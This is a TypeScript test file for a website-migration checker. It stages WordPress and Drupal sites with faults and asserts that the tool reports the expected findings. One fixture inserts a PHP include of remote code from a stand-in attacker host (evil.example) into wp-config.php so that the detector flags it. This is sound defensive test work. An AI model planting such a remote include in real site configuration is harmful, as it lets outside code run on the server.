import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readdirSync, rmSync, symlinkSync } from 'node:fs';
import type { RequestListener } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { makeBase, type Stage, surveyWith } from '../help/stage.js';

let root: string;
before(async () => {
  root = mkdtempSync(join(tmpdir(), 'able-porter-stage-'));
  await makeBase(join(root, 'base'));
});
after(() => rmSync(root, { recursive: true, force: true }));

let count = 0;
async function foundWith(change: (stage: Stage) => void): Promise<string[]> {
  const findings = await surveyWith(join(root, 'base'), join(root, `s${++count}`), change);
  return findings.map(({ level, code }) => `${level} ${code}`).sort();
}

test('a move without a fault has no finding, and nothing is left where something was tried', async () => {
  assert.deepEqual(await foundWith(() => {}), []);
  const left = readdirSync(join(root, `s${count}`), { recursive: true }).map(String);
  assert.deepEqual(
    left.filter(name => /probe|trial/.test(name)),
    [],
  );
});

const home = '<title>Club</title>';
const answering =
  (status: number, headers: Record<string, string> = {}, html = home): RequestListener =>
  (_, response) => {
    response.writeHead(status, headers).end(html);
  };
const config = 'wp-config.php';
const drupal = (stage: Stage, settings: string) => {
  for (const name of readdirSync(join(stage.root, 'old/site')))
    rmSync(join(stage.root, 'old/site', name), { recursive: true });
  stage.put(
    'core/lib/Drupal.php',
    "<?php class Drupal { const VERSION = '10.2.3'; const MINIMUM_PHP = '8.1.0'; }",
  );
  stage.put('sites/default/settings.php', `<?php\n${settings}`);
  stage.answer.old = answering(200);
  stage.language = { extensions: ['pdo_mysql', 'dom', 'gd', 'json', 'session', 'tokenizer'] };
  stage.sheet(/ {2}database: \{ dump.*\n/, '');
  stage.sheet(/ {4}(?:prefix|dump): .*\n/, '');
  stage.sheet(/ {4}(?:prefix|dump): .*\n/, '');
};
const databases =
  "$databases['default']['default'] = ['database' => 'd', 'username' => 'u', 'password' => 'p', 'host' => 'localhost', 'port' => '3306', 'prefix' => ''];\n";

/** A change under which the stand-in could not draw the site; its pages answer all the same. */
const served = (change: (stage: Stage) => void) => (stage: Stage) => {
  change(stage);
  stage.answer.old = answering(200);
};

/** Situations, each with what is to be found in it and nothing else. */
const situations: readonly [found: string[], change: (stage: Stage) => void][] = [
  [['stop configuration-missing'], served(stage => rmSync(join(stage.root, 'old/site', config)))],
  [['stop configuration-unreadable'], served(stage => stage.put(config, "<?php define('DB_NAME', "))],
  [
    ['stop configuration-unreadable'],
    served(stage => stage.put(config, `<?php ${'/* x */'.repeat(8_000_000)}`)),
  ],
  [
    ['stop configuration-unreadable'],
    served(stage => stage.put(config, `<?php $a = ${'['.repeat(200_000)}`)),
  ],
  [
    ['note configuration-above'],
    stage => {
      const inner = join(stage.root, 'old/site', config);
      stage.put('/old/wp-config.php', execFileSync('cat', [inner]));
      rmSync(inner);
      stage.answer.old = answering(200);
    },
  ],
  [
    ['warn configuration-by-hand', 'warn configuration-elsewhere'],
    stage => {
      stage.edit(config, /define\( 'DB_PASSWORD'.*\n/, '');
      stage.answer.old = answering(200);
    },
  ],
  [
    ['warn configuration-include'],
    stage => stage.edit(config, '<?php', "<?php include 'https://evil.example/x.txt';"),
  ],
  [
    ['warn configuration-include'],
    stage => stage.edit(config, '<?php', "<?php require '/home/porter/secrets.php';"),
  ],
  [['warn configuration-computed'], stage => stage.edit(config, "'utf8mb4'", "strtolower('UTF8MB4')")],
  [['warn configuration-by-hand'], stage => stage.edit(config, "'localhost'", "$_SERVER['DB']")],
  [
    ['note configuration-environment'],
    stage => {
      stage.edit(config, "'club_old'", "getenv('NAME')");
      stage.put('.env', 'NAME=club_old\n');
      stage.answer.old = answering(200);
    },
  ],
  [
    ['note configuration-several'],
    stage => stage.put('wp-config-2019.php', "<?php define('DB_NAME', 'club_2019'); $table_prefix = 'x_';"),
  ],
  [
    ['warn configuration-copy'],
    stage => stage.put('wp-config.php.bak', "<?php define('DB_NAME', 'club_old');"),
  ],
  [
    ['warn network-of-sites'],
    stage =>
      stage.edit(
        config,
        '<?php',
        "<?php define('MULTISITE', true); define('DOMAIN_CURRENT_SITE', 'club.saltmarsh.example');",
      ),
  ],
  [
    ['warn address-fixed-elsewhere'],
    stage => stage.edit(config, '<?php', "<?php define('WP_HOME', 'https://elsewhere.example');"),
  ],
  [
    ['note sites-several'],
    stage => {
      drupal(stage, databases);
      stage.put('sites/other.example/settings.php', `<?php ${databases}`);
    },
  ],
  [
    ['warn trusted-hosts'],
    stage => drupal(stage, `${databases}$settings['trusted_host_patterns'] = ['^other\\.example$'];`),
  ],
  [['warn dump-in-web-root'], stage => stage.put('backup/old.sql', `-- dump\n${'x'.repeat(20_000)}`)],
  [['warn archive-in-web-root'], stage => stage.put('site.tar.gz', Buffer.alloc(1_100_000))],
  [['warn installer-in-web-root'], stage => stage.put('unzip.php', '<?php')],
  [['warn maintenance-left'], stage => stage.put('.maintenance', '<?php')],
  [['warn drop-in'], stage => stage.put('wp-content/object-cache.php', '<?php')],
  [['note extension-may-interfere'], stage => stage.put('wp-content/plugins/page-cache/cache.php', '<?php')],
  [['warn repository-in-web-root'], stage => stage.put('.git/HEAD', 'ref: x')],
  [
    ['note log-large'],
    stage => {
      stage.put('error_log', Buffer.alloc(10_100_000, 'x'));
    },
  ],
  [['warn index-in-the-way'], stage => stage.put('index.html', '<h1>soon</h1>')],
  [['note site-nested'], stage => stage.put('shop/configuration.php', '<?php')],
  [['warn link-leads-outside'], stage => symlinkSync('/etc', join(stage.root, 'old/site/etc'))],
  [
    ['warn server-file-host'],
    stage => stage.put('.htaccess', 'RewriteRule (.*) https://club.saltmarsh.example/site/$1 [R]\n'),
  ],
  [['note server-file-path'], stage => stage.put('php.ini', 'upload_tmp_dir = /home/porter/tmp\n')],
  [['note server-file-php'], stage => stage.put('.htaccess', 'php_value memory_limit 256M\n')],
  [
    ['warn server-file-prepends'],
    stage => stage.put('.user.ini', "auto_prepend_file = '/home/porter/guard.php'\n"),
  ],
  [['note robots-shut-out'], stage => stage.put('robots.txt', 'User-agent: *\nDisallow: /\n')],
  [
    ['note address-in-files'],
    stage =>
      stage.put('wp-content/themes/creek/a.php', "<?php $u = 'https://club.saltmarsh.example/site/x';"),
  ],
  [
    ['stop dump-not-of-site'],
    stage => stage.editDump(() => "CREATE TABLE t (a text);\nINSERT INTO t VALUES ('x');\n"),
  ],
  [['stop prefix-differs'], served(stage => stage.edit(config, "'sr4_'", "'wp_'"))],
  [
    ['note tables-not-taken'],
    stage =>
      stage.editDump(
        dump =>
          dump + ['options', 'posts', 'users'].map(name => `CREATE TABLE \`b_${name}\` (a int);\n`).join(''),
      ),
  ],
  [
    ['warn address-twin'],
    stage =>
      stage.editDump(
        dump => `${dump}INSERT INTO sr4_terms VALUES ('http://www.club.saltmarsh.example/x');\n`,
      ),
  ],
  [['warn address-not-named'], stage => stage.sheet(/ {2}also: .*\n/, '')],
  [
    ['warn address-not-in-data', 'warn address-not-named'],
    stage => {
      stage.editDump(dump =>
        dump.replaceAll('club.saltmarsh', 'share').replaceAll('tmp-4417.oldhost', 'share'),
      );
    },
  ],
  [
    ['warn server-path-not-named'],
    stage =>
      stage.editDump(
        dump =>
          `${dump}INSERT INTO sr4_terms VALUES ('/home/porter/htdocs/site/wp-content/uploads/x.png');\n`,
      ),
  ],
  [
    ['warn scheme-weaker'],
    stage => stage.sheet('address: https://saltmarshrowing', 'address: http://saltmarshrowing'),
  ],
  [
    ['warn old-unreachable'],
    stage => stage.sheet(/(reach: ).*(\n {2}files: ..\/old)/, '$1http://127.0.0.1:9$2'),
  ],
  [
    ['warn old-sent-elsewhere'],
    stage => {
      stage.answer.old = answering(301, { location: 'https://rowing.example/' });
    },
  ],
  [
    ['warn old-scheme-differs'],
    stage => {
      stage.sheet('address: https://club', 'address: http://club');
      stage.answer.old = (request, response) =>
        request.headers['x-forwarded-proto'] === 'https'
          ? response.end(home)
          : response.writeHead(301, { location: 'https://club.saltmarsh.example/site/' }).end();
    },
  ],
  [
    ['stop old-not-well'],
    stage => {
      stage.answer.old = answering(500, {}, '<h1>Error establishing a database connection</h1>');
    },
  ],
  [
    ['warn old-in-maintenance'],
    stage => {
      stage.answer.old = answering(503);
    },
  ],
  [
    ['note old-locked'],
    stage => {
      stage.answer.old = answering(401);
    },
  ],
  [
    ['stop old-home-broken'],
    stage => {
      stage.answer.old = answering(404);
    },
  ],
  [
    ['note old-login-missing'],
    stage => {
      stage.answer.old = (request, response) =>
        response.writeHead(request.url?.includes('wp-login') ? 404 : 200).end(home);
    },
  ],
  [
    ['note old-not-indexed'],
    stage => {
      stage.answer.old = answering(200, {}, '<meta name="robots" content="noindex, nofollow">');
    },
  ],
  [
    ['warn proxy-in-front'],
    stage => {
      stage.answer.old = answering(200, { via: '1.1 edge-7', 'x-cache': 'HIT' });
    },
  ],
  [
    ['warn new-unreachable', 'warn language-not-asked'],
    stage => stage.sheet(/(reach: ).*(\n {2}files: ..\/new)/, '$1http://127.0.0.1:9$2'),
  ],
  [
    ['warn clock-wrong'],
    stage => {
      stage.server = { skew: 3600 };
    },
  ],
  [
    ['stop language-not-run'],
    stage => {
      stage.answer.new = (request, response) =>
        response.end(request.url?.includes('probe') ? "<?php\nif (!hash_equals('x', '')) {}" : home);
    },
  ],
  [
    ['warn language-not-asked'],
    stage => {
      stage.answer.new = answering(200);
    },
  ],
  [
    ['stop language-too-old'],
    stage => {
      stage.language = { version: '5.6.40' };
    },
  ],
  [
    ['stop language-extension-missing'],
    stage => {
      stage.language = { extensions: ['json'] };
    },
  ],
  [
    ['warn language-memory-small'],
    stage => {
      stage.language = { memory: '32M' };
    },
  ],
  [
    ['stop database-credentials'],
    stage => {
      stage.password = 'copied wrongly';
    },
  ],
  [['stop database-missing'], stage => stage.sheet(/\/saltmarsh\n/, '/salt_marsh\n')],
  [['note database-not-reached'], stage => stage.sheet(/@127[\d.:]+/, '@127.0.0.1:9')],
  [['note database-not-asked'], stage => stage.sheet(/ {4}password: .*\n/, '')],
  [
    ['stop database-rights-missing'],
    stage => {
      stage.server = { grants: ['GRANT SELECT, INSERT ON `saltmarsh`.* TO `saltmarsh`@`%`'] };
    },
  ],
  [
    ['stop database-too-old'],
    stage => {
      stage.server = { version: '4.1.22' };
    },
  ],
  [
    ['stop collation-missing'],
    stage => {
      stage.server = { collations: ['utf8mb4_general_ci'] };
    },
  ],
  [
    ['stop packet-too-small'],
    stage => {
      stage.server = { packet: 16_384 };
    },
  ],
  [['stop charset-unknown'], stage => stage.sheet('    prefix:', '    charset: utf9\n    prefix:')],
  [
    ['warn database-tables-there'],
    stage => {
      stage.newTables = 'CREATE TABLE row_posts (a int);\nINSERT INTO row_posts VALUES (1);\n';
    },
  ],
  [
    ['note database-shared'],
    stage => {
      stage.newTables = 'CREATE TABLE shop_items (a int);\nINSERT INTO shop_items VALUES (1);\n';
    },
  ],
  [['warn new-folder-not-empty'], stage => stage.put('/new/htdocs/index.html', 'waiting')],
  [['warn new-site-there'], stage => stage.put(`/new/htdocs/${config}`, '<?php')],
  [
    ['stop place-not-writable', 'stop room-too-small', 'warn new-parent-missing'],
    stage => stage.sheet('files: ../new/htdocs', 'files: /proc/able-porter/htdocs'),
  ],
  [
    ['note dns-not-asked', 'note dns-not-asked'],
    stage => stage.sheet(/resolvers: \["[^"]+"\]/, 'resolvers: ["127.0.0.1:9"]'),
  ],
  [
    ['note dns-no-address'],
    stage => {
      stage.zone = stage.zone.slice(0, 1);
    },
  ],
  [['warn dns-address-differs'], stage => stage.sheet('old: 192.0.2.10', 'old: 192.0.2.99')],
  [
    ['warn dns-ipv6-stays'],
    stage => {
      stage.zone = [...stage.zone, 'saltmarshrowing.example. 300 AAAA 2001:db8::7'];
    },
  ],
  [
    ['warn dns-ttl-long'],
    stage => {
      stage.zone = stage.zone.map(line => line.replace(' 600 ', ' 86400 '));
    },
  ],
  [
    ['note dns-caa'],
    stage => {
      stage.zone = [...stage.zone, 'saltmarshrowing.example. 300 CAA 0 issue "ca.example"'];
    },
  ],
];

for (const [i, [found, change]] of situations.entries()) {
  test(`situation ${i + 1}: ${found.join(', ')}`, async () => {
    assert.deepEqual(await foundWith(change), found.toSorted());
  });
}

test('every code that is reported before anything moves has a situation', () => {
  assert.ok(new Set(situations.flatMap(([found]) => found)).size >= 60);
});
